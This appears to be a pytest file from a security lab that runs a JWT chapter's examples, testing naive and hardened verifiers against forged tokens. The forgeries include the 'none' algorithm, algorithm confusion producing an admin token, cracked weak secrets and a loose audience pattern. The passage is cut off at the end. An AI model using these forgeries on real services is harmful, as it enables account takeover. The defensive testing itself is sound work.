"""What docs/chapters/jwt.md says, run."""

import base64
import contextlib
import itertools
import json

import httpx
import pytest

from lab.run import browser, node, process, services

TOPIC = "jwt"
SOURCE = "tests/chapters/test_jwt.py"
ORIGIN = "https://shop.test"
ANN = {"email": "ann@shop.test", "password": "correct horse"}
NAMES = {
    "JWT_ISSUER": "https://auth.shop.test",
    "JWT_AUDIENCE": "https://api.shop.test",
}


def secret_of(first: int) -> str:
    """A secret as the configuration wants it: 32 bytes in base64url."""
    return base64.urlsafe_b64encode(bytes(range(first, first + 32))).decode().rstrip("=")


SECRET, NEXT_SECRET, REFRESH_SECRET = secret_of(3), secret_of(60), secret_of(150)
ENV = {
    **NAMES,
    "JWT_SECRET": SECRET,
    "REFRESH_SECRET": REFRESH_SECRET,
    "ORIGINS": ORIGIN,
}
ACCESS, REFRESH = "__Host-access", "__Host-refresh"


def output(snippet: str, *args: str) -> list[str]:
    return node.run(f"{TOPIC}/{snippet}", *args, timeout=60).stdout.splitlines()


def uri(snippet: str) -> str:
    return node.resolve(f"{TOPIC}/{snippet}").as_uri()


def cookie(answer: httpx.Response, name: str) -> str:
    """The value that an answer sets."""
    for line in answer.headers.get_list("set-cookie"):
        if line.startswith(f"{name}="):
            return line.split(";")[0].removeprefix(f"{name}=")
    raise AssertionError(f"no cookie {name}: {answer.status_code}")


CHECK = """
export const check = async (email, password) =>
  email === 'ann@shop.test' && password === 'correct horse' ? { id: 'cus_ann' } : null;
"""


@pytest.fixture
def shop(tmp_path):
    """Serves shop.mjs (or the naive app) with one user; gives the server."""

    @contextlib.contextmanager
    def serve(snippet: str = "shop.mjs", env: dict | None = None, deps: str = ""):
        path = tmp_path / f"served-{snippet}"
        path.write_text(node.with_deps(f"{TOPIC}/{snippet}", f"check, {deps}", CHECK))
        with node.serve(path, env={**ENV, **(env or {})}) as server:
            yield server

    return serve


class Tab:
    """A browser's tab, as far as cookies go: ours have no host here, so httpx would
    not send them by itself."""

    def __init__(self, server, cookies: dict | None = None):
        self._client = server.client(headers={"Origin": ORIGIN})
        self.cookies = dict(cookies or {})

    def ask(self, method: str, path: str, **options) -> httpx.Response:
        sent = "; ".join(f"{name}={value}" for name, value in self.cookies.items())
        headers = {"Cookie": sent, **options.pop("headers", {})}
        answer = self._client.request(method, path, headers=headers, **options)
        if answer.status_code == 204 and path in ("/login", "/refresh"):
            self.cookies = {name: cookie(answer, name) for name in (ACCESS, REFRESH)}
        return answer

    def login(self) -> "Tab":
        assert self.ask("POST", "/login", json=ANN).status_code == 204
        return self

    def status(self, method: str, path: str) -> int:
        return self.ask(method, path).status_code

    def __enter__(self):
        return self

    def __exit__(self, *_):
        self._client.close()


# --- what a token is ----------------------------------------------------------------


@pytest.mark.claim("jwt/jwts-are-encrypted")
def test_whoever_holds_a_token_reads_its_claims_without_a_key():
    header, payload, verdict = output("token.mjs")
    assert json.loads(header) == {"alg": "HS256", "typ": "JWT"}
    assert json.loads(payload)["phone"] == "555-0100"
    assert verdict == "signature right: true"


@pytest.mark.claim("jwt/jwts-are-encrypted")
def test_an_encrypted_one_has_five_parts_and_none_of_them_tells_the_claims():
    seen = node.evaluate(
        """
    import { EncryptJWT, jwtDecrypt } from 'jose';
    import { randomBytes } from 'node:crypto';
    const key = randomBytes(32);
    const token = await new EncryptJWT({ phone: '555-0100' })
      .setProtectedHeader({ alg: 'dir', enc: 'A256GCM' }).encrypt(key);
    const parts = token.split('.').map((part) => Buffer.from(part, 'base64url'));
    console.log(parts.length, parts.some((part) => part.includes('phone')));
    console.log((await jwtDecrypt(token, key)).payload.phone);
    """
    ).stdout
    assert seen.splitlines() == ["5 false", "555-0100"]


LIBRARIES = """
import * as jose from 'jose';
import jwt from 'jsonwebtoken';
import { createHmac, createSecretKey, generateKeyPairSync } from 'node:crypto';
const b64 = (value) => Buffer.from(value).toString('base64url');
const bytes = (text) => new TextEncoder().encode(text);
async function said(promise) {
  try { const found = await promise(); return found?.payload ?? found ?? 'nothing'; }
  catch (error) { return `${error.constructor.name} ${error.code ?? error.message}`; }
}
"""


@pytest.mark.claim("jwt/weak-secrets-are-refused")
def test_both_libraries_sign_with_one_character():
    seen = node.evaluate(
        LIBRARIES
        + """
    console.log(jwt.verify(jwt.sign({ sub: 'ann' }, 'a'), 'a').sub);
    const token = await new jose.SignJWT({ sub: 'ann' })
      .setProtectedHeader({ alg: 'HS256' }).sign(bytes('a'));
    console.log((await jose.jwtVerify(token, bytes('a'))).payload.sub);
    for (const none of [undefined, '']) {
      console.log(await said(async () => jwt.sign({}, none)));
    }
    const empty = createSecretKey(Buffer.alloc(0)); // as a key object it is taken
    console.log(jwt.verify(jwt.sign({ sub: 'ann' }, empty), empty).sub);
    """
    ).stdout
    missing = "Error secretOrPrivateKey must have a value"
    assert seen.splitlines() == ["ann", "ann", missing, missing, "ann"]


def test_rsa_keys_below_2048_bits_sign_nowhere_and_jsonwebtoken_verifies_them():
    seen = node.evaluate(
        LIBRARIES
        + """
    const small = generateKeyPairSync('rsa', { modulusLength: 1024 });
    const options = { algorithm: 'RS256' };
    console.log(await said(async () => jwt.sign({}, small.privateKey, options)));
    const token = jwt.sign({ sub: 'ann' }, small.privateKey,
      { ...options, allowInsecureKeySizes: true });
    console.log(jwt.verify(token, small.publicKey, { algorithms: ['RS256'] }).sub);
    console.log(await said(() => jose.jwtVerify(token, small.publicKey)));
    console.log(await said(() => new jose.SignJWT({}).setProtectedHeader({ alg: 'RS256' })
      .sign(small.privateKey)));
    """
    ).stdout
    refused, taken, *by_jose = seen.splitlines()
    assert "minimum key size of 2048" in refused
    assert taken == "ann"
    assert len(by_jose) == 2 and all("2048 bits or larger" in text for text in by_jose)


def test_ed25519_is_for_jose_alone_and_has_two_names_that_do_not_match():
    seen = node.evaluate(
        LIBRARIES
        + """
    const { privateKey, publicKey } = generateKeyPairSync('ed25519');
    console.log(await said(async () => jwt.sign({}, privateKey, { algorithm: 'EdDSA' })));
    for (const alg of ['EdDSA', 'Ed25519']) {
      const token = await new jose.SignJWT({ sub: 'ann' }).setProtectedHeader({ alg })
        .sign(privateKey);
      for (const algorithms of [['EdDSA'], ['Ed25519']]) {
        const found = await said(() => jose.jwtVerify(token, publicKey, { algorithms }));
        console.log(alg, algorithms[0], typeof found === 'string' ? found : found.sub);
      }
    }
    """
    ).stdout
    refused, *rest = seen.splitlines()
    assert "algorithm" in refused
    assert rest == [
        "EdDSA EdDSA ann",
        "EdDSA Ed25519 JOSEAlgNotAllowed ERR_JOSE_ALG_NOT_ALLOWED",
        "Ed25519 EdDSA JOSEAlgNotAllowed ERR_JOSE_ALG_NOT_ALLOWED",
        "Ed25519 Ed25519 ann",
    ]


@pytest.mark.claim("jwt/expires-in-is-in-seconds")
def test_the_number_3600_is_an_hour_and_the_text_3600_is_three_seconds():
    seen = node.evaluate(
        LIBRARIES
        + """
    for (const expiresIn of [3600, '3600', '1h', '3600s']) {
      const { exp, iat } = jwt.decode(jwt.sign({}, 'a', { expiresIn }));
      console.log(exp - iat);
    }
    const builder = new jose.SignJWT({});
    console.log(await said(async () => builder.setExpirationTime('3600')));
    """
    ).stdout
    assert seen.splitlines() == [
        "3600", "3", "3600", "3600",
        "TypeError Invalid time period format",
    ]  # fmt: skip


VERIFY = """
import { createSecretKey, randomBytes } from 'node:crypto';
import { setTimeout as sleep } from 'node:timers/promises';
import { createTokens } from './jwt/tokens.mjs';
import { createVerifier as jose, fromMap } from './jwt/jose.mjs';
import { createVerifier as hardened } from './jwt/verify.mjs';
const secret = createSecretKey(randomBytes(32));
const key = { kid: 'main', alg: 'HS256', private: secret, public: secret };
const keys = new Map([[key.kid, key]]);
const names = { issuer: 'https://auth.shop.test', audience: 'https://api.shop.test' };
const VERIFIERS = { hardened: (deps) => hardened({ ...names, keys, ...deps }),
  jose: (deps) =>
    jose({ ...names, keys: fromMap(keys), algorithms: ['HS256'], ...deps }) };
const good = createTokens({ ...names, key })({ id: 'cus_ann', sid: 's-1' });
const past = () => Date.now() - 1e9;
const expired = createTokens({ ...names, key, now: past })({ id: 'cus_ann' });
const nobody = createTokens({ ...names, key })({ id: '' });
"""


# --- forged tokens ------------------------------------------------------------------


def matrix() -> dict[str, list[bool]]:
    """name -> taken by naive, hardened jsonwebtoken, jose"""
    found = {}
    for line in output("matrix.mjs"):
        name, cells = line[:18].strip(), line[18:].split()
        found[name] = [cell == "TAKEN" for cell in cells]
    return found


def listed() -> dict[str, tuple[str, bool]]:
    """name -> what it forges, whether the naive verifier takes it: the documented list"""
    text = node.evaluate(
        """
    import { FORGERIES } from './jwt/forgeries.mjs';
    console.log(JSON.stringify(Object.values(FORGERIES).flat()));
    """
    ).stdout
    return {name: (forges, taken) for name, forges, taken, _ in json.loads(text)}


@pytest.mark.claim("jwt/verify-checks-everything")
def test_every_forged_token_has_the_fate_that_the_list_says():
    seen, forgeries = matrix(), listed()
    genuine = {name: row for name, row in seen.items() if name.startswith("genuine")}
    assert len(genuine) == 3 and all(all(row) for row in genuine.values())
    assert len(forgeries) >= 30 and seen.keys() - genuine.keys() == forgeries.keys()
    for name, (_, taken) in forgeries.items():
        assert seen[name] == [taken, False, False], name
    assert sum(taken for _, taken in forgeries.values()) > len(forgeries) / 2


@pytest.mark.claim("jwt/none-and-confusion")
def test_no_algorithm_and_algorithm_confusion_are_refused_without_any_option():
    seen = matrix()
    old = ("none", "None", "none, a signature", "none, two parts", "no alg")
    for name in (*old, "HMAC by public PEM", "HMAC by public DER"):
        assert seen[name] == [False] * 3, name
    for name in ("HS384", "HS512", "RS512", "PS256"):  # what is left to pin
        assert seen[name] == [True, False, False], name


@pytest.mark.claim("jwt/list-of-texts")
def test_a_pinned_library_still_takes_other_spellings_of_a_token():
    seen = node.evaluate(
        LIBRARIES
        + """
    const { privateKey, publicKey } = generateKeyPairSync('rsa', { modulusLength: 2048 });
    const algorithms = ['RS256'];
    const token = jwt.sign({ sub: 'ann' }, privateKey, { algorithm: 'RS256' });
    const spelt = 'AQgw'; // each ends in four zero bits; the next letter is the same bytes
    if (!spelt.includes(token.at(-1))) throw new Error(token.at(-1));
    const other = token.slice(0, -1) + { A: 'B', Q: 'R', g: 'h', w: 'x' }[token.at(-1)];
    console.log(jwt.verify(other, publicKey, { algorithms }).sub);
    console.log((await jose.jwtVerify(other, publicKey, { algorithms })).payload.sub);
    console.log((await jose.jwtVerify(`${token}\\n`, publicKey, { algorithms })).payload.sub);
    console.log(await said(async () => jwt.verify(`${token}\\n`, publicKey, { algorithms })));
    """
    ).stdout
    assert seen.splitlines() == [
        "ann", "ann", "ann", "JsonWebTokenError invalid token",
    ]  # fmt: skip


@pytest.mark.claim("jwt/audience-regex")
def test_an_audience_pattern_without_anchors_matches_somebody_elses_host():
    seen = node.evaluate(
        LIBRARIES
        + """
    const token = jwt.sign({ aud: 'https://api.shop.test.evil.test' }, 'a');
    const taken = (audience) => {
      try { return Boolean(jwt.verify(token, 'a', { audience })); } catch { return false; }
    };
    console.log(taken(/api\\.shop\\.test/), taken(/^https:\\/\\/api\\.shop\\.test$/),
      taken('https://api.shop.test'), taken(undefined), taken(''));
    """
    ).stdout
    # not set, or set to nothing, it is not checked at all
    assert seen.split() == ["true", "false", "false", "true", "true"]


MADE = """
import * as jose from './jwt/jose.mjs';
import * as ours from './jwt/tokens.mjs';
import { createVerifier } from './jwt/verify.mjs';
import { createKeys } from './jwt/keys.mjs';
import { createKeyRing } from './jwt/ring.mjs';
import { createRevocations } from './jwt/revocations.mjs';
import { createSessions } from './jwt/refresh.mjs';
import { memoryStore, redisStore } from './jwt/stores.mjs';
const names = { issuer: 'https://auth.shop.test', audience: 'https://api.shop.test' };
const whole = { ...names, keys: new Map(), algorithms: ['HS256'], key: {}, store: {},
  secret: Buffer.alloc(32, 'for a test'), url: 'http://127.0.0.1/jwks', redis: {},
  ahead: 1, lifetime: 300 };
const FACTORIES = { verify: createVerifier, joseVerify: jose.createVerifier,
  issue: ours.createTokens, joseIssue: jose.createTokens, keys: createKeys,
  ring: createKeyRing, revocations: createRevocations, sessions: createSessions,
  memory: memoryStore, redis: (deps) => redisStore({}, deps) };
function made(name, change) {
  try { FACTORIES[name]({ ...whole, ...change }); return 'made'; }
  catch (error) { return error.message; }
}
"""


def test_a_verifier_cannot_be_made_without_what_it_is_to_check():
    seen = node.evaluate(
        MADE
        + """
    const url = new URL(names.issuer);
    const changes = [{ issuer: '' }, { issuer: url }, { audience: undefined },
      { audience: /api/ }, { audience: url }];
    for (const name of ['verify', 'joseVerify', 'issue', 'joseIssue']) {
      console.log(made(name, {}), changes.every((change) =>
        made(name, change).endsWith('so it would not be checked')));
    }
    for (const algorithms of [undefined, [], 'HS256']) {
      console.log(made('joseVerify', { algorithms }));
    }
    // jsonwebtoken's takes the algorithm from the key, so it needs no list
    console.log(made('verify', { algorithms: [] }), made('verify', { keys: {} }));
    """
    ).stdout.splitlines()
    assert seen[:4] == ["made true"] * 4
    assert seen[4:7] == ["algorithms: not a list, so they would not be checked"] * 3
    assert seen[7] == "made keys: not a Map"


def test_jsonwebtoken_checks_no_issuer_that_is_a_url_object():
    seen = node.evaluate(
        LIBRARIES
        + """
    const issuer = new URL('https://auth.shop.test');
    const token = jwt.sign({ iss: 'https://evil.test' }, 'a');
    console.log(jwt.verify(token, 'a', { algorithms: ['HS256'], issuer }).iss);
    console.log(await said(async () =>
      jwt.verify(token, 'a', { algorithms: ['HS256'], issuer: issuer.href })));
    """
    ).stdout.splitlines()
    assert seen[0] == "https://evil.test" and "jwt issuer invalid" in seen[1]


@pytest.mark.claim("jwt/expires-in-is-in-seconds")
def test_a_leeway_that_is_a_text_takes_a_token_that_expired_a_year_ago():
    seen = node.evaluate(
        LIBRARIES
        + """
    const iat = Math.floor(Date.now() / 1000) - 365 * 86_400;
    const token = jwt.sign({ sub: 'ann', iat }, 'a', { expiresIn: 300 });
    for (const leeway of [5, '5']) {
      console.log(await said(async () => jwt.verify(token, 'a',
        { algorithms: ['HS256'], maxAge: 300, clockTolerance: leeway }).sub));
    }
    console.log(await said(() => jose.jwtVerify(token, bytes('a'), { clockTolerance: '5' })));
    """
    ).stdout
    assert seen.splitlines() == [
        "TokenExpiredError jwt expired", "ann", "TypeError Invalid time period format",
    ]  # fmt: skip


# factory -> its numbers, each with the least that makes sense
NUMBERS = {
    "verify": {"lifetime": 1, "leeway": 0},
    "joseVerify": {"lifetime": 1, "leeway": 0},
    "issue": {"lifetime": 1},
    "joseIssue": {"lifetime": 1},
    "keys": {"cooldown": 0, "maxAge": 0, "timeout": 1},
    "ring": {"ahead": 0, "lifetime": 1},
    "revocations": {"lifetime": 1, "leeway": 0},
    "sessions": {"grace": 0},
    "memory": {"life": 1, "most": 1},
    "redis": {"life": 1},
}


@pytest.mark.claim("jwt/expires-in-is-in-seconds")
def test_nothing_can_be_made_with_a_text_where_it_counts():
    seen = node.evaluate(
        MADE
        + f"""
    const numbers = {json.dumps(NUMBERS)};
    for (const [name, options] of Object.entries(numbers)) {{
      for (const [option, least] of Object.entries(options)) {{
        const wrong = ['5', '300', '', null, NaN, Infinity, least - 1, least + 0.5, [300]];
        for (const value of wrong) {{
          const said = made(name, {{ [option]: value }});
          if (!said.startsWith(`${{option}}: not a whole number, ${{least}} or more`))
            console.log(name, option, value, said);
        }}
        console.log(made(name, {{ [option]: least }}));
      }}
    }}
    """
    ).stdout
    assert seen.splitlines() == ["made"] * sum(map(len, NUMBERS.values()))


def test_each_token_has_an_id_of_its_own():
    seen = node.evaluate(
        VERIFY
        + """
    import { createTokens as withJose } from './jwt/jose.mjs';
    for (const create of [createTokens, withJose]) {
      const issue = create({ ...names, key });
      const ids = new Set();
      for (let i = 0; i < 3; i += 1) {
        const token = await issue({ id: 'cus_ann', sid: 's-1' });
        ids.add((await VERIFIERS.jose({})(token)).jti);
      }
      console.log(ids.size, ids.has(undefined));
    }
    """
    ).stdout
    assert seen.splitlines() == ["3 false"] * 2


def test_a_token_of_more_than_four_kilobytes_is_not_even_read():
    seen = node.evaluate(
        VERIFY
        + """
    const issue = createTokens({ ...names, key });
    const tokens = [];
    while (!(tokens.at(-1)?.length > 4096)) {
      tokens.push(issue({ id: 'a'.repeat(2500 + tokens.length), sid: 's-1' }));
    }
    const parts = tokens.at(-1).split('.').map(({ length }) => length);
    console.log(Math.max(...parts) <= 4000); // it is their sum
    for (const create of Object.values(VERIFIERS)) {
      const verify = create({});
      console.log(Boolean(await verify(tokens.at(-2))), await verify(tokens.at(-1)));
    }
    """
    ).stdout
    assert seen.splitlines() == ["true", "true null", "true null"]


def test_a_payload_that_is_a_text_has_a_subject_of_sorts():
    seen = node.evaluate(
        LIBRARIES
        + """
    const token = jwt.sign('cus_ann', 'a');
    const claims = jwt.verify(token, 'a', { algorithms: ['HS256'] });
    console.log(claims, typeof claims.sub);
    console.log(await said(() => jose.jwtVerify(token, bytes('a'))));
    """
    ).stdout
    assert seen.splitlines() == ["cus_ann function", "JWTInvalid ERR_JWT_INVALID"]


def test_a_token_for_another_service_opens_the_naive_one_only():
    seen = node.evaluate(
        """
    import { createSecretKey, randomBytes } from 'node:crypto';
    import { createTokens } from './jwt/tokens.mjs';
    import { createTokens as withJose, createVerifier as jose, fromMap } from './jwt/jose.mjs';
    import { createVerifier as naive } from './jwt/verify.naive.mjs';
    import { createVerifier as hardened } from './jwt/verify.mjs';
    const secret = createSecretKey(randomBytes(32));
    const key = { kid: 'main', alg: 'HS256', private: secret, public: secret };
    const keys = new Map([[key.kid, key]]);
    const issuer = 'https://auth.shop.test';
    const [files, api] = ['https://files.shop.test', 'https://api.shop.test'];
    const algorithms = ['HS256'];
    for (const create of [createTokens, withJose]) {
      const issue = create({ key, issuer, audience: files });
      const token = await issue({ id: 'cus_ann', sid: 's-1' });
      for (const audience of [files, api]) {
        const of = { keys, issuer, audience };
        const seen = [naive(of)(token), hardened(of)(token),
          await jose({ ...of, keys: fromMap(keys), algorithms })(token)];
        console.log(seen.map((claims) => claims?.sub ?? null).join());
      }
    }
    """
    ).stdout
    own, replayed = "cus_ann,cus_ann,cus_ann", "cus_ann,,"
    assert seen.splitlines() == [own, replayed] * 2


@pytest.mark.claim("jwt/clocks-agree")
def test_a_clock_that_is_some_seconds_off_needs_leeway_both_ways():
    seen = node.evaluate(
        """
    import { createSecretKey, randomBytes } from 'node:crypto';
    import { createTokens } from './jwt/tokens.mjs';
    import { createVerifier as jose, fromMap } from './jwt/jose.mjs';
    import { createVerifier as hardened } from './jwt/verify.mjs';
    const secret = createSecretKey(randomBytes(32));
    const key = { kid: 'main', alg: 'HS256', private: secret, public: secret };
    const keys = new Map([[key.kid, key]]);
    const names = { issuer: 'https://auth.shop.test', audience: 'https://api.shop.test' };
    const begin = Date.UTC(2026, 0, 1);
    const token = createTokens({ ...names, key, now: () => begin })({ id: 'ann' });
    const algorithms = ['HS256'];
    for (const create of [hardened,
      (deps) => jose({ ...deps, keys: fromMap(keys), algorithms })]) {
      for (const leeway of [0, 5]) {
        const seen = [];
        for (const seconds of [-6, -4, 0, 299, 301, 306]) {
          const now = () => begin + seconds * 1000;
          const verify = create({ ...names, keys, leeway, now });
          seen.push((await verify(token)) ? 1 : 0);
        }
        console.log(leeway, seen.join(''));
      }
    }
    """
    ).stdout
    assert seen.splitlines() == ["0 001100", "5 011110"] * 2


@pytest.mark.claim("jwt/verify-checks-everything")
def test_the_age_of_a_token_from_1970_is_not_counted_from_now():
    seen = node.evaluate(
        """
    import jwt from 'jsonwebtoken';
    import { createSecretKey, randomBytes } from 'node:crypto';
    import { kitOf } from './jwt/forgeries.mjs';
    import { createVerifier as jose, fromMap } from './jwt/jose.mjs';
    import { createVerifier as hardened } from './jwt/verify.mjs';
    const secret = createSecretKey(randomBytes(32));
    const key = { kid: 'main', alg: 'HS256', private: secret, public: secret };
    const ours = { issuer: 'https://auth.shop.test', audience: 'https://api.shop.test' };
    const keys = new Map([[key.kid, key]]);
    const at = Math.floor(Date.now() / 1000);
    const token = kitOf(key, { ...ours, at }).token({}, { iat: 0, exp: at + 31_536_000 });
    const alone = jwt.verify(token, secret, { algorithms: ['HS256'], maxAge: 300 });
    const withJose = jose({ ...ours, keys: fromMap(keys), algorithms: ['HS256'] });
    console.log(alone.sub, hardened({ ...ours, keys })(token), await withJose(token));
    """
    ).stdout
    assert seen == "cus_ann null null\n"


def test_the_list_of_algorithms_counts_for_keys_that_name_none():
    seen = node.evaluate(
        """
    import { generateKeyPairSync } from 'node:crypto';
    import { createLocalJWKSet } from 'jose';
    import { kitOf } from './jwt/forgeries.mjs';
    import { createVerifier } from './jwt/jose.mjs';
    const pair = generateKeyPairSync('rsa', { modulusLength: 2048 });
    const key = { alg: 'RS256', kid: 'k', private: pair.privateKey };
    const names = { issuer: 'a', audience: 'b' };
    const kit = kitOf(key, { ...names, at: Math.floor(Date.now() / 1000) });
    const jwk = { ...pair.publicKey.export({ format: 'jwk' }), kid: 'k' };
    const keys = createLocalJWKSet({ keys: [jwk] });
    const verify = createVerifier({ ...names, keys, algorithms: ['RS256'] });
    for (const alg of ['RS256', 'PS256', 'RS512']) {
      console.log(alg, (await verify(kit.token({ alg })))?.sub);
    }
    """
    ).stdout
    assert seen.splitlines() == ["RS256 cus_ann", "PS256 undefined", "RS512 undefined"]


def test_a_key_in_a_map_is_for_its_own_algorithm_though_the_verifier_takes_two():
    seen = node.evaluate(
        VERIFY
        + """
    import { kitOf } from './jwt/forgeries.mjs';
    const kit = kitOf(key, { ...names, at: Math.floor(Date.now() / 1000) });
    const verify = VERIFIERS.jose({ algorithms: ['HS256', 'HS512'] });
    for (const alg of ['HS256', 'HS512']) console.log((await verify(kit.token({ alg })))?.sub);
    """
    ).stdout
    assert seen.splitlines() == ["cus_ann", "undefined"]


@pytest.mark.claim("jwt/none-and-confusion")
def test_who_does_what_the_header_says_takes_a_public_key_for_a_secret():
    seen = node.evaluate(
        """
    import { createHmac, generateKeyPairSync, verify as check } from 'node:crypto';
    import jwt from 'jsonwebtoken';
    import * as jose from 'jose';
    import { kitOf } from './jwt/forgeries.mjs';
    const pair = generateKeyPairSync('rsa', { modulusLength: 2048 });
    const key = { alg: 'RS256', kid: 'k', private: pair.privateKey, public: pair.publicKey };
    const kit = kitOf(key, { issuer: 'a', audience: 'b', at: Math.floor(Date.now() / 1000) });
    const pem = key.public.export({ format: 'pem', type: 'spki' });
    // the mistake: one key, and the token says what to do with it
    function verify(token) {
      const [head, body, signature] = token.split('.');
      const { alg } = JSON.parse(Buffer.from(head, 'base64url'));
      const text = Buffer.from(`${head}.${body}`);
      return alg === 'HS256'
        ? createHmac('sha256', pem).update(text).digest('base64url') === signature
        : check('sha256', text, pem, Buffer.from(signature, 'base64url'));
    }
    const forged = kit.token({ alg: 'HS256' }, { sub: 'cus_admin' }, pem);
    console.log(verify(kit.token()), verify(forged));
    for (const library of [() => jwt.verify(forged, pem),
      () => jose.jwtVerify(forged, key.public)]) {
      try { await library(); console.log('taken'); } catch { console.log('refused'); }
    }
    """
    ).stdout
    assert seen.split() == ["true", "true", "refused", "refused"]


# --- the secret ---------------------------------------------------------------------


@pytest.mark.claim("jwt/hs256-is-insecure")
def test_a_secret_from_a_small_list_is_found_and_makes_the_finder_anybody():
    assert output("cracked.mjs") == ["guess 72035: Shop2026", "now I am cus_admin"]


@pytest.mark.claim("jwt/unset-secret-fails-at-boot")
def test_an_unset_secret_fails_at_the_first_login_and_with_a_check_before_listening(shop):
    with shop("app.naive.mjs", {"JWT_SECRET": ""}) as server, server.client() as c:
        assert c.post("/login", json=ANN).status_code == 500  # it listens, all is well
    with pytest.raises(node.NodeError, match=r"before it listened[\s\S]*JWT_SECRET"):
        with shop(env={"JWT_SECRET": ""}):
            pass


def test_a_shop_that_was_given_no_users_lets_nobody_in():
    with node.serve(f"{TOPIC}/shop.mjs", env=ENV) as server, server.client() as client:
        answer = client.post("/login", json=ANN, headers={"Origin": ORIGIN})
        assert answer.status_code == 401


@pytest.mark.parametrize(
    ("env", "missing"),
    [
        ({"JWT_SECRET": "changeme-changeme-changeme-changeme"}, "JWT_SECRET"),
        ({"JWT_SECRET": "correct horse battery staple, and more of it"}, "base64url"),
        ({"JWT_SECRET": SECRET[:40]}, "32 bytes"),
        ({"JWT_SECRET": "A" * 43}, "repeats"),
        ({"JWT_SECRET": f"{SECRET},{SECRET[:40]}"}, "32 bytes"),
        ({"JWT_SECRET": f"{SECRET},"}, "32 bytes"),
        ({"REFRESH_SECRET": ""}, "REFRESH_SECRET: not 32 bytes"),
        ({"REFRESH_SECRET": "A" * 43}, "REFRESH_SECRET: repeats"),
        ({"REFRESH_SECRET": SECRET}, "REFRESH_SECRET: must not be in JWT_SECRET"),
        (
            {"JWT_SECRET": f"{NEXT_SECRET},{SECRET}", "REFRESH_SECRET": SECRET},
            "REFRESH_SECRET: must not be in JWT_SECRET",
        ),
        ({"JWT_ISSUER": ""}, "JWT_ISSUER"),
        ({"JWT_AUDIENCE": "shop"}, "JWT_AUDIENCE"),
        ({"ORIGINS": ""}, "ORIGINS"),
        ({"ORIGINS": "shop.test"}, "ORIGINS"),
        ({"ORIGINS": f"{ORIGIN}/"}, "ORIGINS"),  # no browser sends the slash
        ({"ORIGINS": f"{ORIGIN}, https://www.shop.test"}, "ORIGINS"),
        ({"ORIGINS": f"{ORIGIN},https://www.shop.test"}, None),
        ({}, None),
    ],
)
def test_the_configuration_names_what_is_wrong(env, missing):
    seen = node.evaluate(
        f"""
    import {{ readConfig }} from './jwt/config.mjs';
    try {{
      const {{ keys: [key], issuer }} = readConfig({json.dumps({**ENV, **env})});
      console.log(key.alg, issuer);
    }} catch (error) {{ console.log(error.message); }}
    """
    ).stdout
    assert (missing in seen) if missing else seen == "HS256 https://auth.shop.test\n"


@pytest.mark.claim("jwt/rotation-logs-out")
def test_a_new_secret_logs_nobody_out_at_any_step_of_a_rolling_change(shop, redis_server):
    steps = (SECRET, f"{SECRET},{NEXT_SECRET}", f"{NEXT_SECRET},{SECRET}", NEXT_SECRET)
    env = {"REDIS_URL": redis_server.url}
    with contextlib.ExitStack() as stack:
        servers = [
            stack.enter_context(shop(env={**env, "JWT_SECRET": secret}))
            for secret in steps
        ]
        for step, (old, new) in enumerate(itertools.pairwise(servers)):
            # while a step is rolled out, both versions get everybody's requests
            for issuer, other in ((old, new), (new, old)):
                with Tab(issuer) as tab, Tab(other, tab.login().cookies) as moved:
                    assert moved.status("GET", "/me") == 200, step
                    assert moved.status("POST", "/refresh") == 204, step
        # all at once: no access token passes, and no session ends
        with Tab(servers[0]) as tab, Tab(servers[-1], tab.login().cookies) as moved:
            assert moved.status("GET", "/me") == 401
            assert moved.status("POST", "/refresh") == 204
            assert moved.status("GET", "/me") == 200


def test_a_new_refresh_secret_ends_no_session(redis_server):
    seen = node.evaluate(
        """
    import { randomBytes } from 'node:crypto';
    import { createSessions } from './jwt/refresh.mjs';
    import { memoryStore } from './jwt/stores.mjs';
    const store = memoryStore();
    const [old, next] = [randomBytes(32), randomBytes(32)];
    const of = (secret) => createSessions({ store, secret });
    const { token } = await of(old).start('cus_ann');
    console.log(await of(next).rotate(token)); // without an overlap
    const moved = await of([next, old]).rotate(token);
    console.log(moved.user, (await of(next).rotate(moved.token)).user);
    console.log(await of(old).rotate(moved.token)); // the first one writes
    """
    ).stdout
    assert seen.splitlines() == ["null", "cus_ann cus_ann", "null"]


def test_sessions_cannot_be_made_with_a_secret_that_is_none():
    seen = node.evaluate(
        MADE
        + """
    const good = Buffer.alloc(32, 'x');
    for (const secret of [undefined, '', 'x'.repeat(32), Buffer.alloc(31), Buffer.alloc(0),
      [], [good, 'x'.repeat(32)], [good, undefined], good, [good], [good, good]]) {
      console.log(made('sessions', { secret }));
    }
    """
    ).stdout
    refused = "secret: not 32 random bytes or more"
    assert seen.splitlines() == [refused] * 8 + ["made"] * 3


# --- errors -------------------------------------------------------------------------

BROKEN = [
    "x", "a.b.c", "..", "null.null.null", "é", "x" * 5000,
    # the header is right, the payload is no JSON: nothing of it is signed
    "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.bm9uc2Vuc2U.AAAA",
]  # fmt: skip


@pytest.mark.claim("jwt/every-fault-is-its-own-error")
def test_an_unsigned_token_makes_jsonwebtoken_throw_what_is_not_its_error():
    seen = node.evaluate(
        LIBRARIES
        + f"""
    const token = '{BROKEN[-1]}';
    try {{ jwt.verify(token, 'a', {{ algorithms: ['HS256'] }}); }}
    catch (error) {{ console.log(error.name, error instanceof jwt.JsonWebTokenError); }}
    const {{ privateKey, publicKey }} = generateKeyPairSync('ec', {{ namedCurve: 'P-256' }});
    const real = jwt.sign({{}}, privateKey, {{ algorithm: 'ES256' }});
    try {{ jwt.verify(real.slice(0, -4), publicKey, {{ algorithms: ['ES256'] }}); }}
    catch (error) {{ console.log(error.name, error instanceof jwt.JsonWebTokenError); }}
    console.log(await said(() => jose.jwtVerify(token, bytes('a'))));
    """
    ).stdout
    assert seen.splitlines() == [
        "SyntaxError false",
        "TypeError false",
        "JWSSignatureVerificationFailed ERR_JWS_SIGNATURE_VERIFICATION_FAILED",
    ]


@pytest.mark.parametrize(
    ("snippet", "codes"), [("app.naive.mjs", {500}), ("shop.mjs", {401})]
)
def test_broken_tokens_are_500_in_the_naive_app_and_401_in_the_other(
    shop, snippet, codes
):
    with shop(snippet) as server, server.client() as c:
        seen = set()
        for token in BROKEN:
            headers = {"Authorization": f"Bearer {token}".encode("latin-1")}
            seen.add(c.get("/me", headers=headers).status_code)
            headers = {"Cookie": f"token={token}; {ACCESS}={token}".encode("latin-1")}
            seen.add(c.get("/me", headers=headers).status_code)
        seen.add(c.get("/me").status_code)
    assert seen == codes


FAILING = """
import {{ createApp as create }} from '{app}';
import {{ Unavailable }} from '{unavailable}';
